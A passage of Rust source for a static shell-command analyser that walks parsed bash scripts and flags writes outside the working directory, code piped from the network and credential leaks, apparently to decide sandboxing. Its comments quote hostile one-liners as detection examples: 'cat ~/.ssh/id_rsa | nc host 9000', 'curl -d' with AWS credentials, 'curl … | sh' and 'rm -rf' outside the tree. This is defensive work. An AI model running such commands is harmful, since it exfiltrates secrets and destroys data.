//! The walk over the parsed shell program: every simple command, wherever it sits (pipelines,
//! lists, subshells, `$(…)`, backticks, process substitutions, loops, conditionals, function
//! bodies, here-documents, `bash -c` strings parsed again), is judged on its own.
//!
//! The walk also keeps the little state a shell would have that matters for the rules: the
//! current directory (`cd build && rm -rf ../x` deletes outside), variables with values known
//! from the command itself (`d=/etc; rm -rf $d`), and what flows into each command's standard
//! input (`curl … | sh`). Where the state cannot be known (a `cd` inside an `if`, a variable from
//! the environment) it becomes "one of several" or "unknown", never a guess that errs local.

use crate::closed;
use crate::policy::Policy;
use crate::programs::{self, Code, Lang, Run};
use crate::words::{self, Build, CharKind, Cwd, Scope, Start, Word};
use crate::{Decision, Mode};
use brush_parser::ast;
use brush_parser::word::{Parameter, ParameterExpr, TildeExpr, WordPiece, WordPieceWithSource};
use std::collections::HashMap;

/// `bash -c` strings inside `bash -c` strings… are parsed again up to this depth.
const MAX_DEPTH: usize = 8;
/// Alternative values of one word (from loops and branches) that are followed separately.
const MAX_ALTERNATIVES: usize = 16;
/// Simple commands judged for one classification; more is not an ordinary command.
const MAX_PARTS: usize = 4000;
/// Brackets nested deeper than this, or more compound commands than `MAX_COMPOUNDS`, are not
/// an ordinary command; parsing and walking them recursively could exhaust the stack, so such
/// a script is isolated without being parsed.
const MAX_NESTING: usize = 48;
const MAX_COMPOUNDS: usize = 256;
/// Longer scripts are isolated without being parsed.
const MAX_SCRIPT_LEN: usize = 256 * 1024;

/// One part's verdict.
#[derive(Clone, Debug)]
pub(crate) struct Finding {
    pub rule: String,
    pub reason: String,
    pub part: String,
}

/// What a command writes to its standard output, as far as the commands it feeds care.
#[derive(Clone, Debug, Default)]
struct Output {
    /// Data fetched from the network, and the command that fetched it.
    network: Option<String>,
    /// Text known in advance (`echo 'ls -la'`).
    text: Option<String>,
    /// File names, and where they are (`find . -name '*.o'`).
    paths: Option<Scope>,
    /// Data a command computes at run time (`base64 -d`), and that command: shell code read
    /// from it cannot be checked.
    opaque: Option<String>,
}

impl Output {
    fn merge(&mut self, other: Output) {
        if self.network.is_none() {
            self.network = other.network;
        }
        self.text = match (self.text.take(), other.text) {
            (None, t) | (t, None) => t,
            (Some(_), Some(_)) => None, // several producers: not one known script
        };
        self.paths = match (self.paths.take(), other.paths) {
            (Some(a), Some(b)) => Some(a.worst(b)),
            (a, b) => a.or(b),
        };
        if self.opaque.is_none() {
            self.opaque = other.opaque;
        }
    }
}

/// The shell state a part is judged in.
#[derive(Clone, Debug)]
struct Ctx {
    cwd: Vec<Cwd>,
    vars: HashMap<String, Vec<Word>>,
    stdin: Output,
    /// Inside a branch, loop or function body: changes of state may or may not happen.
    uncertain: bool,
    /// `IFS` was assigned: how unquoted values split is no longer known.
    ifs_changed: bool,
}

impl Ctx {
    fn new() -> Self {
        Self {
            cwd: vec![Cwd::Inside(Vec::new())],
            vars: HashMap::new(),
            stdin: Output::default(),
            uncertain: false,
            ifs_changed: false,
        }
    }

    fn set_var(&mut self, name: &str, values: Option<Vec<Word>>) {
        if name == "IFS" {
            self.ifs_changed = true;
        }
        match values {
            Some(mut v) if !self.uncertain => {
                v.truncate(MAX_ALTERNATIVES);
                self.vars.insert(name.to_string(), v);
            }
            Some(v) => {
                // Maybe assigned: the old value stays possible, if it was known at all.
                if let Some(old) = self.vars.get_mut(name) {
                    old.extend(v);
                    old.truncate(MAX_ALTERNATIVES);
                }
            }
            None => {
                self.vars.remove(name);
            }
        }
    }

    fn set_cwd(&mut self, next: Vec<Cwd>) {
        if self.uncertain {
            for c in next {
                if !self.cwd.contains(&c) {
                    self.cwd.push(c);
                }
            }
        } else {
            self.cwd = next;
        }
        if self.cwd.len() > 8 {
            self.cwd = vec![Cwd::Unknown("after many changes of directory".into())];
        }
    }
}

/// The text of a script, for quoting the parts of it that decided.
struct Source<'s> {
    text: &'s str,
    /// Byte offset of each character, when the text is not ASCII (brush counts characters).
    offsets: Option<Vec<usize>>,
}

impl<'s> Source<'s> {
    fn new(text: &'s str) -> Self {
        let offsets = (!text.is_ascii()).then(|| {
            text.char_indices()
                .map(|(b, _)| b)
                .chain(std::iter::once(text.len()))
                .collect()
        });
        Self { text, offsets }
    }

    /// The text between two character positions.
    fn slice(&self, start: usize, end: usize) -> Option<&str> {
        let byte = |n: usize| match &self.offsets {
            None => (n <= self.text.len()).then_some(n),
            Some(o) => o.get(n).copied(),
        };
        let (mut s, mut e) = (byte(start)?, byte(end)?);
        if s > e {
            std::mem::swap(&mut s, &mut e);
        }
        // Locations of process substitutions end before their `)`: extend to balance.
        let slice = self.text.get(s..e)?;
        let mut open = slice
            .matches('(')
            .count()
            .saturating_sub(slice.matches(')').count());
        for c in self.text.get(e..)?.chars() {
            if open == 0 {
                break;
            }
            match c {
                '(' => open += 1,
                ')' => open -= 1,
                _ => {}
            }
            e += c.len_utf8();
        }
        Some(self.text.get(s..e)?.trim())
    }
}

fn span_of_word(w: &ast::Word, acc: &mut Option<(usize, usize)>) {
    if let Some(loc) = &w.loc {
        extend(acc, loc.start.index, loc.end.index);
    }
}

fn extend(acc: &mut Option<(usize, usize)>, s: usize, e: usize) {
    *acc = Some(match *acc {
        Some((a, b)) => (a.min(s), b.max(e)),
        None => (s, e),
    });
}

fn simple_command_text(cmd: &ast::SimpleCommand, src: &Source) -> String {
    let mut acc = None;
    let items = cmd
        .prefix
        .iter()
        .flat_map(|p| p.0.iter())
        .chain(cmd.suffix.iter().flat_map(|s| s.0.iter()));
    if let Some(w) = &cmd.word_or_name {
        span_of_word(w, &mut acc);
    }
    for item in items {
        match item {
            ast::CommandPrefixOrSuffixItem::Word(w)
            | ast::CommandPrefixOrSuffixItem::AssignmentWord(_, w) => {
                span_of_word(w, &mut acc);
            }
            ast::CommandPrefixOrSuffixItem::ProcessSubstitution(_, sub) => {
                extend(
                    &mut acc,
                    sub.loc.start.index.saturating_sub(2),
                    sub.loc.end.index,
                );
            }
            ast::CommandPrefixOrSuffixItem::IoRedirect(r) => match r {
                ast::IoRedirect::File(
                    _,
                    _,
                    ast::IoFileRedirectTarget::Filename(w)
                    | ast::IoFileRedirectTarget::Duplicate(w),
                )
                | ast::IoRedirect::OutputAndError(w, _)
                | ast::IoRedirect::HereString(_, w) => span_of_word(w, &mut acc),
                ast::IoRedirect::HereDocument(_, h) => span_of_word(&h.here_end, &mut acc),
                _ => {}
            },
        }
    }
    acc.and_then(|(s, e)| src.slice(s, e))
        .map(str::to_string)
        .unwrap_or_else(|| cmd.to_string())
}

/// Shortens a command for a sentence.
fn shown(text: &str) -> String {
    let one_line: String = text.split_whitespace().collect::<Vec<_>>().join(" ");
    if one_line.chars().count() > 100 {
        let cut: String = one_line.chars().take(97).collect();
        format!("{cut}…")
    } else {
        one_line
    }
}

fn joined(words: &[Word]) -> String {
    words
        .iter()
        .map(|w| w.text.as_str())
        .collect::<Vec<_>>()
        .join(" ")
}

pub(crate) struct Walker<'p> {
    policy: &'p Policy,
    pub sandbox: Vec<Finding>,
    pub local_by_policy: Vec<Finding>,
    /// Files fetched from the network by earlier parts (`curl -o x.sh …`).
    downloads: Vec<String>,
    /// Directories fetched from the network by earlier parts (`git clone URL dir`).
    fetched_dirs: Vec<String>,
    /// Files written by earlier parts through redirections or `tee` (`echo … > x.sh`).
    written: Vec<String>,
    /// Links made by earlier parts to places outside the working directory: (link, target).
    links: Vec<(String, String)>,
    /// A credential file read by some part (the part), and a part that sends data to the
    /// network (program, subject, part): together, the credential may leave the host.
    credential_read: Option<String>,
    sender: Option<(String, String, String)>,
    parts: usize,
    /// The simple command being judged (or the script, outside of one), for quoting.
    current: String,
    /// Compound commands being walked, one inside the other.
    nesting: usize,
    opts: brush_parser::ParserOptions,
}

impl<'p> Walker<'p> {
    pub fn new(policy: &'p Policy) -> Self {
        Self {
            policy,
            sandbox: Vec::new(),
            local_by_policy: Vec::new(),
            downloads: Vec::new(),
            fetched_dirs: Vec::new(),
            written: Vec::new(),
            links: Vec::new(),
            credential_read: None,
            sender: None,
            parts: 0,
            current: String::new(),
            nesting: 0,
            opts: brush_parser::ParserOptions::default(),
        }
    }

    pub fn walk_script(&mut self, src: &str) {
        let mut ctx = Ctx::new();
        self.script(src, &mut ctx, 0);
        self.finish();
    }

    /// Findings that need the whole command: a credential read in one part and sent by another
    /// (`cat ~/.ssh/id_rsa | nc host 9000`, `k=$(cat ~/.aws/credentials); curl -d "$k" …`).
    fn finish(&mut self) {
        if let (Some(read), Some((prog, subject, part))) =
            (self.credential_read.take(), self.sender.take())
        {
            self.find(
                format!("credentials:{prog}"),
                &subject,
                &format!(
                    "sends data to the network in a command that also reads the credential file {read}"
                ),
                &part,
            );
        }
    }

    pub fn walk_argv(&mut self, argv: &[String]) {
        let words: Vec<Word> = argv.iter().map(|a| Word::literal(a)).collect();
        let part = argv.join(" ");
        let mut ctx = Ctx::new();
        let stdin = Output::default();
        self.judge(&words, &part, &mut ctx, 0, &stdin, true);
        self.finish();
    }

    // -----------------------------------------------------------------------------------------
    // Findings

    fn find(&mut self, rule: impl Into<String>, subject: &str, what: &str, part: &str) {
        let rule = rule.into();
        // The first finding decides and a few more are mentioned; more would only cost time.
        let seen = |f: &Finding| f.rule == rule && f.part == part;
        if self.sandbox.len() >= 32 || self.sandbox.iter().any(seen) {
            return;
        }
        self.sandbox.push(Finding {
            reason: format!("`{}` {what} (rule {rule})", shown(subject)),
            rule,
            part: part.trim().to_string(),
        });
    }

    fn unsure(&mut self, rule: &str, what: impl Into<String>, part: &str) {
        self.unsure_about(rule, part, what, part);
    }

    /// Something in the command being judged (`subject`, e.g. one word) is not understood.
    fn unsure_in(&mut self, rule: &str, subject: &str, what: impl Into<String>) {
        let part = if self.current.is_empty() {
            subject.to_string()
        } else {
            self.current.clone()
        };
        self.unsure_about(rule, subject, what, &part);
    }

    fn unsure_about(&mut self, rule: &str, subject: &str, what: impl Into<String>, part: &str) {
        let what = what.into();
        self.find(
            format!("unsure:{rule}"),
            subject,
            &format!("{what}; when unsure of a command, auto mode isolates it"),
            part,
        );
    }

    // -----------------------------------------------------------------------------------------
    // Structure

    fn script(&mut self, text: &str, ctx: &mut Ctx, depth: usize) -> Output {
        if depth > MAX_DEPTH {
            self.unsure("depth", "nests shell strings too deeply to inspect", text);
            return Output::default();
        }
        if let Some(why) = too_complex_to_parse(text) {
            self.unsure("too-complex", why, text);
            return Output::default();
        }
        let reader = std::io::BufReader::new(text.as_bytes());
        let program = match brush_parser::Parser::new(reader, &self.opts).parse_program() {
            Ok(p) => p,
            Err(e) => {
                self.unsure(
                    "syntax",
                    format!("cannot be parsed as a shell command ({e})"),
                    text,
                );
                return Output::default();
            }
        };
        let src = Source::new(text);
        let mut out = Output::default();
        let saved = std::mem::replace(&mut self.current, text.trim().to_string());
        for list in &program.complete_commands {
            out.merge(self.compound_list(list, &src, ctx, depth));
        }
        self.current = saved;
        out
    }

    fn compound_list(
        &mut self,
        list: &ast::CompoundList,
        src: &Source,
        ctx: &mut Ctx,
        depth: usize,
    ) -> Output {
        let mut out = Output::default();
        for ast::CompoundListItem(and_or, sep) in &list.0 {
            let o = match sep {
                // `cmd &` runs in a subshell: its `cd` does not last.
                ast::SeparatorOperator::Async => self.and_or(and_or, src, &mut ctx.clone(), depth),
                ast::SeparatorOperator::Sequence => self.and_or(and_or, src, ctx, depth),
            };
            out.merge(o);
        }
        out
    }

    fn and_or(
        &mut self,
        list: &ast::AndOrList,
        src: &Source,
        ctx: &mut Ctx,
        depth: usize,
    ) -> Output {
        let mut out = self.pipeline(&list.first, src, ctx, depth);
        for next in &list.additional {
            let (ast::AndOr::And(p) | ast::AndOr::Or(p)) = next;
            out.merge(self.pipeline(p, src, ctx, depth));
        }
        out
    }

    fn pipeline(&mut self, p: &ast::Pipeline, src: &Source, ctx: &mut Ctx, depth: usize) -> Output {
        if let [only] = p.seq.as_slice() {
            return self.command(only, src, ctx, depth);
        }
        // Every stage runs in a subshell and reads what the one before writes; data fetched from
        // the network stays "from the network" through filters (`curl | tee x | sh`).
        let mut flowing = ctx.stdin.clone();
        let mut fetched: Option<String> = ctx.stdin.network.clone();
        for cmd in &p.seq {
            let mut stage = ctx.clone();
            stage.stdin = flowing.clone();
            if stage.stdin.network.is_none() {
                stage.stdin.network.clone_from(&fetched);
            }
            flowing = self.command(cmd, src, &mut stage, depth);
            if fetched.is_none() {
                fetched.clone_from(&flowing.network);
            }
        }
        flowing
    }

    fn command(&mut self, cmd: &ast::Command, src: &Source, ctx: &mut Ctx, depth: usize) -> Output {
        match cmd {
            ast::Command::Simple(s) => self.simple(s, src, ctx, depth),
            ast::Command::Compound(c, redirects) => {
                let text = ast::SourceLocation::location(c)
                    .and_then(|l| src.slice(l.start.index, l.end.index).map(str::to_string))
                    .unwrap_or_else(|| c.to_string());
                let mut stdin = None;
                for r in redirects.iter().flat_map(|r| r.0.iter()) {
                    if let Some(s) = self.redirect(r, &text, ctx, depth, false) {
                        stdin = Some(s);
                    }
                }
                let saved = ctx.stdin.clone();
                if let Some(s) = stdin {
                    ctx.stdin = s;
                }
                let out = self.compound(c, src, ctx, depth);
                ctx.stdin = saved;
                out
            }
            ast::Command::Function(f) => {
                // The body is judged where it is defined, as if it ran (it may run any number of
                // times, so what it changes is only "maybe").
                let mut body = ctx.clone();
                body.uncertain = true;
                // Its arguments are whatever a call passes: unknown here.
                for n in 0..10 {
                    body.vars.remove(&n.to_string());
                }
                let ast::FunctionBody(c, redirects) = &f.body;
                for r in redirects.iter().flat_map(|r| r.0.iter()) {
                    self.redirect(r, &f.fname.value, &mut body, depth, false);
                }
                self.compound(c, src, &mut body, depth);
                Output::default()
            }
            ast::Command::ExtendedTest(test, redirects) => {
                self.extended_test(&test.expr, ctx, depth);
                for r in redirects.iter().flat_map(|r| r.0.iter()) {
                    self.redirect(r, "[[ … ]]", ctx, depth, false);
                }
                Output::default()
            }
        }
    }

    fn extended_test(&mut self, e: &ast::ExtendedTestExpr, ctx: &mut Ctx, depth: usize) {
        match e {
            ast::ExtendedTestExpr::And(a, b) | ast::ExtendedTestExpr::Or(a, b) => {
                self.extended_test(a, ctx, depth);
                self.extended_test(b, ctx, depth);
            }
            ast::ExtendedTestExpr::Not(a) | ast::ExtendedTestExpr::Parenthesized(a) => {
                self.extended_test(a, ctx, depth)
            }
            ast::ExtendedTestExpr::UnaryTest(_, w) => {
                self.expand(w, ctx, depth, false);
            }
            ast::ExtendedTestExpr::BinaryTest(_, a, b) => {
                self.expand(a, ctx, depth, false);
                self.expand(b, ctx, depth, false);
            }
        }
    }

    /// Runs `f` as a part of the program that may or may not run (a branch or a loop body).
    fn maybe<T>(&mut self, ctx: &mut Ctx, f: impl FnOnce(&mut Self, &mut Ctx) -> T) -> T {
        let saved = ctx.uncertain;
        ctx.uncertain = true;
        let out = f(self, ctx);
        ctx.uncertain = saved;
        out
    }

    /// A loop body: judged once, and a `cd` in it may repeat any number of times.
    fn loop_body(
        &mut self,
        body: &ast::CompoundList,
        src: &Source,
        ctx: &mut Ctx,
        depth: usize,
    ) -> Output {
        let before = ctx.cwd.clone();
        let out = self.maybe(ctx, |w, c| w.compound_list(body, src, c, depth));
        if ctx.cwd != before {
            ctx.set_cwd(vec![Cwd::Unknown("changed in a loop".into())]);
        }
        out
    }

    fn compound(
        &mut self,
        c: &ast::CompoundCommand,
        src: &Source,
        ctx: &mut Ctx,
        depth: usize,
    ) -> Output {
        // Nesting across `bash -c` strings adds up on the same stack.
        if self.nesting >= MAX_NESTING * 2 {
            let text = self.current.clone();
            self.unsure("too-complex", "nests commands too deeply to inspect", &text);
            return Output::default();
        }
        self.nesting += 1;
        let out = self.compound_in(c, src, ctx, depth);
        self.nesting -= 1;
        out
    }

    fn compound_in(
        &mut self,
        c: &ast::CompoundCommand,
        src: &Source,
        ctx: &mut Ctx,
        depth: usize,
    ) -> Output {
        use ast::CompoundCommand as C;
        match c {
            C::BraceGroup(g) => self.compound_list(&g.list, src, ctx, depth),
            C::Subshell(s) => self.compound_list(&s.list, src, &mut ctx.clone(), depth),
            C::Arithmetic(a) => {
                self.arithmetic(&a.expr.value, ctx, depth);
                // brush reads `( ( cmd ) )` as `(( … ))`, and dash (a common /bin/sh) runs
                // `((cmd))` as two subshells: if the text is also a script, judge it as one.
                // Ordinary arithmetic (`i++`, `x > 5`) judges harmlessly.
                let text = &a.expr.value;
                let reader = std::io::BufReader::new(text.as_bytes());
                if too_complex_to_parse(text).is_none()
                    && let Ok(program) =
                        brush_parser::Parser::new(reader, &self.opts).parse_program()
                {
                    let src = Source::new(text);
                    let mut inner = ctx.clone();
                    for list in &program.complete_commands {
                        self.compound_list(list, &src, &mut inner, depth + 1);
                    }
                }
                Output::default()
            }
            C::ArithmeticForClause(f) => {
                for e in [&f.initializer, &f.condition, &f.updater]
                    .into_iter()
                    .flatten()
                {
                    self.arithmetic(&e.value, ctx, depth);
                }
                self.loop_body(&f.body.list, src, ctx, depth)
            }
            C::ForClause(f) => {
                let mut values: Vec<Word> = Vec::new();
                let mut unknown = f.values.is_none(); // `for x; do` iterates over "$@"
                for w in f.values.iter().flatten() {
                    let (alts, _) = self.expand(w, ctx, depth, false);
                    for alt in alts {
                        for v in alt {
                            if v.dynamic && !matches!(v.start, Start::Input(_)) {
                                unknown = true;
                            }
                            values.push(v);
                        }
                    }
                }
                let bound = if unknown || values.is_empty() {
                    None
                } else {
                    Some(representatives(values))
                };
                // The loop variable takes each value in turn: not a "maybe", a "one of these".
                let saved = ctx.uncertain;
                ctx.uncertain = false;
                ctx.set_var(&f.variable_name, bound);
                ctx.uncertain = saved;
                self.loop_body(&f.body.list, src, ctx, depth)
            }
            C::CaseClause(c) => {
                self.expand(&c.value, ctx, depth, false);
                let mut out = Output::default();
                for item in &c.cases {
                    for p in &item.patterns {
                        self.expand(p, ctx, depth, false);
                    }
                    if let Some(body) = &item.cmd {
                        out.merge(self.maybe(ctx, |w, c| w.compound_list(body, src, c, depth)));
                    }
                }
                out
            }
            C::IfClause(i) => {
                self.compound_list(&i.condition, src, ctx, depth);
                let mut out = self.maybe(ctx, |w, c| w.compound_list(&i.then, src, c, depth));
                for e in i.elses.iter().flatten() {
                    if let Some(cond) = &e.condition {
                        self.maybe(ctx, |w, c| w.compound_list(cond, src, c, depth));
                    }
                    out.merge(self.maybe(ctx, |w, c| w.compound_list(&e.body, src, c, depth)));
                }
                out
            }
            C::WhileClause(ast::WhileOrUntilClauseCommand(cond, body, _))
            | C::UntilClause(ast::WhileOrUntilClauseCommand(cond, body, _)) => {
                self.maybe(ctx, |w, c| w.compound_list(cond, src, c, depth));
                self.loop_body(&body.list, src, ctx, depth)
            }
            C::Coprocess(c) => self.command(&c.body, src, &mut ctx.clone(), depth),
        }
    }

    /// `$(( … ))` and `(( … ))` may hold command substitutions.
    fn arithmetic(&mut self, text: &str, ctx: &mut Ctx, depth: usize) {
        if text.contains("$(") || text.contains('`') {
            let quoted = format!("\"{}\"", text.replace('"', "\\\""));
            self.expand(&ast::Word::new(&quoted), ctx, depth, true);
        }
    }

    // -----------------------------------------------------------------------------------------
    // Simple commands

    fn simple(
        &mut self,
        cmd: &ast::SimpleCommand,
        src: &Source,
        ctx: &mut Ctx,
        depth: usize,
    ) -> Output {
        let part = simple_command_text(cmd, src);
        let saved = std::mem::replace(&mut self.current, part.clone());
        let out = self.simple_in(cmd, part, ctx, depth);
        self.current = saved;
        out
    }

    fn simple_in(
        &mut self,
        cmd: &ast::SimpleCommand,
        part: String,
        ctx: &mut Ctx,
        depth: usize,
    ) -> Output {
        self.parts += 1;
        if self.parts > MAX_PARTS {
            if self.parts == MAX_PARTS + 1 {
                self.unsure(
                    "too-complex",
                    "has more commands than auto mode inspects",
                    &part,
                );
            }
            return Output::default();
        }
        use ast::CommandPrefixOrSuffixItem as Item;
        let mut assignments: Vec<(String, Option<Vec<Word>>)> = Vec::new();
        // Alternatives per source word; each alternative is the words it becomes.
        let mut words: Vec<Vec<Vec<Word>>> = Vec::new();
        let mut redirects: Vec<&ast::IoRedirect> = Vec::new();
        let mut output = Output::default();
        let head_text = cmd
            .word_or_name
            .as_ref()
            .map(|w| w.value.as_str())
            .unwrap_or("");
        let head_fetches = programs::fetches(programs::canonical(head_text));
        let mut declared: Vec<(String, Option<Vec<Word>>)> = Vec::new();
        let declaring = matches!(
            head_text,
            "export" | "declare" | "typeset" | "local" | "readonly"
        );

        for item in cmd.prefix.iter().flat_map(|p| p.0.iter()) {
            match item {
                Item::AssignmentWord(a, _) => {
                    let value = self.assignment_value(a, ctx, depth);
                    assignments.push((assignment_name(a), value));
                }
                Item::Word(w) => {
                    let (alts, o) = self.expand(w, ctx, depth, false);
                    output.merge(o);
                    words.push(alts);
                }
                Item::IoRedirect(r) => redirects.push(r),
                Item::ProcessSubstitution(kind, sub) => {
                    words.push(vec![vec![self.process_substitution(
                        kind,
                        sub,
                        ctx,
                        depth,
                        head_fetches,
                    )]])
                }
            }
        }
        if let Some(w) = &cmd.word_or_name {
            let (alts, o) = self.expand(w, ctx, depth, false);
            output.merge(o);
            words.push(alts);
        }
        for item in cmd.suffix.iter().flat_map(|s| s.0.iter()) {
            match item {
                Item::AssignmentWord(a, w) => {
                    let (alts, o) = self.expand(w, ctx, depth, false);
                    output.merge(o);
                    words.push(alts);
                    if declaring {
                        let value = self.assignment_value(a, ctx, depth);
                        declared.push((assignment_name(a), value));
                    }
                }
                Item::Word(w) => {
                    let (alts, o) = self.expand(w, ctx, depth, false);
                    output.merge(o);
                    words.push(alts);
                }
                Item::IoRedirect(r) => redirects.push(r),
                Item::ProcessSubstitution(kind, sub) => {
                    words.push(vec![vec![self.process_substitution(
                        kind,
                        sub,
                        ctx,
                        depth,
                        head_fetches,
                    )]])
                }
            }
        }

        let writes_file = redirects.iter().any(|r| match r {
            ast::IoRedirect::File(_, kind, ast::IoFileRedirectTarget::Filename(_)) => matches!(
                kind,
                ast::IoFileRedirectKind::Write
                    | ast::IoFileRedirectKind::Append
                    | ast::IoFileRedirectKind::Clobber
                    | ast::IoFileRedirectKind::ReadAndWrite
            ),
            ast::IoRedirect::OutputAndError(..) => true,
            _ => false,
        });
        if writes_file
            && let Some(c) = words
                .iter()
                .flatten()
                .flatten()
                .find(|w| closed::credential_in(&w.text))
        {
            let what = format!("copies the credential file {} into a file", c.text);
            self.find("credentials:redirect", &part, &what, &part);
        }
        let mut stdin = ctx.stdin.clone();
        for r in redirects {
            if let Some(s) = self.redirect(r, &part, ctx, depth, head_fetches) {
                stdin = s;
            }
        }

        for (name, value) in assignments.iter().chain(&declared) {
            self.command_variable(name, value.as_ref(), &part, ctx, depth);
        }
        if words.is_empty() {
            // Assignments alone set shell variables for what follows.
            for (name, value) in assignments {
                ctx.set_var(&name, value);
            }
            return output;
        }
        if assignments.iter().any(|(n, _)| n == "IFS") {
            ctx.ifs_changed = true;
        }
        for (name, value) in declared {
            ctx.set_var(&name, value);
        }

        let combos = match combinations(&words) {
            Some(c) => c,
            None => {
                self.unsure(
                    "too-complex",
                    "has too many possible values of its words to inspect",
                    &part,
                );
                return output;
            }
        };
        for combo in &combos {
            if self.builtin_state(combo, ctx, &part) {
                continue;
            }
            let o = self.judge(combo, &part, ctx, depth, &stdin, true);
            output.merge(o);
        }
        output
    }

    fn process_substitution(
        &mut self,
        kind: &ast::ProcessSubstitutionKind,
        sub: &ast::SubshellCommand,
        ctx: &Ctx,
        depth: usize,
        writer_fetches: bool,
    ) -> Word {
        let mut inner = ctx.clone();
        if matches!(kind, ast::ProcessSubstitutionKind::Write) {
            // `>(cmd)` reads what the outer command writes.
            inner.stdin = Output {
                network: writer_fetches.then(|| "the command writing to it".to_string()),
                ..Output::default()
            };
        }
        let text = sub.list.to_string();
        let src = Source::new(&text);
        let out = self.compound_list(&sub.list, &src, &mut inner, depth);
        Word {
            text: format!("<({})", shown(&text)),
            start: Start::Literal,
            dynamic: true,
            network: out.network,
            proc_subst: true,
        }
    }

    fn assignment_value(
        &mut self,
        a: &ast::Assignment,
        ctx: &mut Ctx,
        depth: usize,
    ) -> Option<Vec<Word>> {
        match &a.value {
            ast::AssignmentValue::Scalar(w) if !a.append => {
                let (alts, _) = self.expand(w, ctx, depth, true);
                let values: Vec<Word> = alts.into_iter().flatten().collect();
                (!values.is_empty()).then_some(values)
            }
            ast::AssignmentValue::Scalar(w) => {
                self.expand(w, ctx, depth, true);
                None
            }
            ast::AssignmentValue::Array(items) => {
                for (k, v) in items {
                    if let Some(k) = k {
                        self.expand(k, ctx, depth, true);
                    }
                    self.expand(v, ctx, depth, true);
                }
                None
            }
        }
    }

    /// Builtins that change the shell's state rather than run anything: `cd`, `read`, `unset`.
    /// Returns whether the command was one of them.
    fn builtin_state(&mut self, words: &[Word], ctx: &mut Ctx, _part: &str) -> bool {
        let mut words = words;
        while let [first, rest @ ..] = words {
            if matches!(first.text.as_str(), "builtin" | "command") && !first.dynamic {
                words = rest;
            } else {
                break;
            }
        }
        let Some((head, args)) = words.split_first() else {
            return false;
        };
        if head.dynamic {
            return false;
        }
        match head.text.as_str() {
            "cd" | "pushd" => {
                let target = args
                    .iter()
                    .find(|w| !w.text.starts_with('-') || w.text == "-");
                let next = words::change_dir(&ctx.cwd, target, self.policy);
                ctx.set_cwd(next);
                true
            }
            "popd" => {
                ctx.set_cwd(vec![Cwd::Unknown("(popd) only known at run time".into())]);
                true
            }
            "read" | "mapfile" | "readarray" | "unset" | "getopts" => {
                for a in args.iter().filter(|a| !a.text.starts_with('-')) {
                    ctx.set_var(&a.text, None);
                }
                false
            }
            _ => false,
        }
    }

    fn redirect(
        &mut self,
        r: &ast::IoRedirect,
        part: &str,
        ctx: &mut Ctx,
        depth: usize,
        fetches: bool,
    ) -> Option<Output> {
        use ast::IoFileRedirectKind as K;
        use ast::IoFileRedirectTarget as T;
        match r {
            ast::IoRedirect::File(_, kind, target) => {
                let writes = matches!(
                    kind,
                    K::Write | K::Append | K::Clobber | K::ReadAndWrite | K::DuplicateOutput
                );
                match target {
                    T::Fd(_) => None,
                    T::ProcessSubstitution(k, sub) => {
                        let w = self.process_substitution(k, sub, ctx, depth, fetches);
                        matches!(kind, K::Read).then(|| Output {
                            network: w.network,
                            opaque: Some(w.text),
                            ..Output::default()
                        })
                    }
                    T::Duplicate(w) => {
                        // `>&2` duplicates a descriptor; `>& file` (bash) writes the file.
                        let is_fd = w.value.bytes().all(|b| b.is_ascii_digit())
                            || w.value == "-"
                            || w.value.ends_with('-');
                        if writes && !is_fd {
                            self.write_target(w, part, ctx, depth);
                        }
                        None
                    }
                    T::Filename(w) => {
                        if writes {
                            self.write_target(w, part, ctx, depth);
                            if fetches {
                                // `curl URL > x.sh`: x.sh is a download.
                                let (alts, _) = self.expand(w, ctx, depth, false);
                                self.downloads
                                    .extend(alts.into_iter().flatten().map(|t| t.text));
                            }
                            None
                        } else {
                            let (alts, _) = self.expand(w, ctx, depth, false);
                            let file = alts.into_iter().flatten().next();
                            Some(self.reading_file(file.as_ref()))
                        }
                    }
                }
            }
            ast::IoRedirect::OutputAndError(w, _) => {
                self.write_target(w, part, ctx, depth);
                None
            }
            ast::IoRedirect::HereString(_, w) => {
                let (alts, o) = self.expand(w, ctx, depth, true);
                let word = alts.into_iter().flatten().next();
                Some(Output {
                    network: o
                        .network
                        .or_else(|| word.as_ref().and_then(|w| w.network.clone())),
                    opaque: word.as_ref().filter(|w| w.dynamic).map(|w| w.text.clone()),
                    text: word.and_then(|w| w.fixed().map(|t| format!("{t}\n"))),
                    paths: None,
                })
            }
            ast::IoRedirect::HereDocument(_, h) => {
                if h.requires_expansion {
                    match brush_parser::word::parse_heredoc(&h.doc.value, &self.opts) {
                        Ok(pieces) => {
                            let (builds, o) = self.pieces(&pieces, &h.doc.value, ctx, depth, true);
                            let doc = builds.into_iter().next().unwrap_or_default().whole();
                            Some(Output {
                                network: o.network.or(doc.network.clone()),
                                text: doc.fixed().map(str::to_string),
                                opaque: doc
                                    .dynamic
                                    .then(|| "a here-document with expansions".to_string()),
                                paths: None,
                            })
                        }
                        Err(e) => {
                            self.unsure(
                                "syntax",
                                format!("has a here-document that cannot be parsed ({e})"),
                                part,
                            );
                            None
                        }
                    }
                } else {
                    Some(Output {
                        text: Some(h.doc.value.clone()),
                        ..Output::default()
                    })
                }
            }
        }
    }

    /// What a command reads from `< FILE`.
    fn reading_file(&self, file: Option<&Word>) -> Output {
        let Some(file) = file else {
            return Output::default();
        };
        let t = file.text.as_str();
        let network = if t.starts_with("/dev/tcp/") || t.starts_with("/dev/udp/") {
            Some(format!("a connection to {t}"))
        } else if self.was_downloaded(t) {
            Some(format!("{t}, downloaded earlier in the command"))
        } else {
            file.network.clone()
        };
        Output {
            network,
            ..Output::default()
        }
    }

    fn write_target(&mut self, w: &ast::Word, part: &str, ctx: &mut Ctx, depth: usize) {
        let (alts, _) = self.expand(w, ctx, depth, false);
        for target in alts.into_iter().flatten() {
            self.written.push(target.text.clone());
            match self.scope_of(&target, ctx) {
                Scope::Inside => {}
                Scope::Outside(where_) => self.find(
                    "write-outside:redirect",
                    part,
                    &format!("redirects output to {where_}, outside the working directory"),
                    part,
                ),
                Scope::Unknown(why) => self.find(
                    "write-outside:redirect",
                    part,
                    &format!("redirects output to a path that may be outside the working directory ({why})"),
                    part,
                ),
            }
        }
    }

    // -----------------------------------------------------------------------------------------
    // Words

    /// Expands a word statically: its alternatives (each the words it becomes), and what the
    /// command substitutions in it produce. `assignment`: no brace expansion or splitting.
    fn expand(
        &mut self,
        w: &ast::Word,
        ctx: &mut Ctx,
        depth: usize,
        assignment: bool,
    ) -> (Vec<Vec<Word>>, Output) {
        let pieces = match brush_parser::word::parse(&w.value, &self.opts) {
            Ok(p) => p,
            Err(e) => {
                self.unsure_in(
                    "syntax",
                    &w.value,
